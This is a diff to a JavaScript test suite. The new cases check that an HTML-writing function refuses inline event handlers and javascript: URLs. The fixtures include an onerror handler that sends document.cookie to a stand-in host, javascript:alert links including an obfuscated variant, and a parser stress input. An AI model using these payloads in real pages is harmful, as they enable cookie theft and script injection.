@@ -79,13 +79,15 @@ describe('write_result', () => {
     const { call } = setup();
     const content = page(
       [
-        '<!-- {{ not rendered }} <script>document.write("x")</script> -->',
+        '<!-- {{ not rendered }} <script>document.write("x")</script> <img onerror="x"> -->',
+        '<a href="https://example.invalid/onerror=1?javascript:x">a link</a> <p data-onerror="x" class="on">text about onclick= handlers</p>',
         '<p id="t">Total: 42</p><ul id="l"></ul>',
         '<script type="application/json" id="data">{"rows": [1, 2, 3]}</script>',
         '<script>',
         '  const rows = JSON.parse(document.getElementById("data").textContent).rows;',
         '  for (const r of rows) { const li = document.createElement("li"); li.textContent = String(r); document.getElementById("l").append(li); }',
         '  if (document.body.innerHTML === "") globalThis.__pageRan = true;',
+        '  const tip = "<a href=\\"javascript:x\\" onclick=\\"y\\">"; void tip;',
         '</script>',
         '<script type="module">',
         "import { html } from 'https://example.invalid/lib.js';",
@@ -115,6 +117,12 @@ describe('write_result', () => {
     ['an unclosed script', page('<script>let a = 1;'), /never closed/],
     ['a fragment without <html>', '<body><p>hi</p></body>', /missing `<html>`, `<\/html>`/],
     ['a document without <body>', '<html><head></head></html>', /missing `<body>`/],
+    // Issue 21, item 9: code in the markup, which the script checks never saw.
+    ['an onerror= handler', page('<img src="x.png" onerror="fetch(`//evil.invalid/?c=`+document.cookie)">'), /<img> at page line 5 has the inline event handler `onerror=`/],
+    ['an unquoted onclick handler', page('<p>\n<button type=button onclick=go()>Go</button></p>'), /<button> at page line 6 has the inline event handler `onclick=`/],
+    ['a javascript: link', page('<a href="javascript:alert(1)">open</a>'), /<a> at page line 5 has a `javascript:` URL in `href`/],
+    ['a disguised javascript: link', page('<a href=" JaVa&#x09;Script&colon;alert(1)">open</a>'), /`javascript:` URL in `href`/],
+    ['a javascript: form action', page('<form action="javascript:void(0)"><button>x</button></form>'), /`javascript:` URL in `action`/],
   ];
   for (const [label, content, expected] of refusals) {
     it(`refuses ${label} and writes nothing`, async () => {
@@ -126,6 +134,17 @@ describe('write_result', () => {
       expect(files(path.join(root, 'fallback'))).toEqual([]);
     });
   }
+
+  it('reads the tags of a hostile page in one pass: tags never closed and quotes never ended', async () => {
+    const { call } = setup();
+    const t0 = performance.now();
+    const r = await call({ content: page(`${'<a title="x '.repeat(200_000)}<img src=x onerror=alert(1)>`), format: 'html' });
+    expect(performance.now() - t0).toBeLessThan(5000);
+    expect(r).toMatchObject({ ok: false });
+    const open = await call({ content: page('<p>fine</p>'.repeat(10) + '<a href="x" '.repeat(200_000)), format: 'html' });
+    expect(performance.now() - t0).toBeLessThan(10_000);
+    expect(open).toMatchObject({ ok: true });
+  });
 
   it('lists every problem of a broken page in one refusal, with the html_render rules when the structure is missing', async () => {
     const { out, call } = setup();
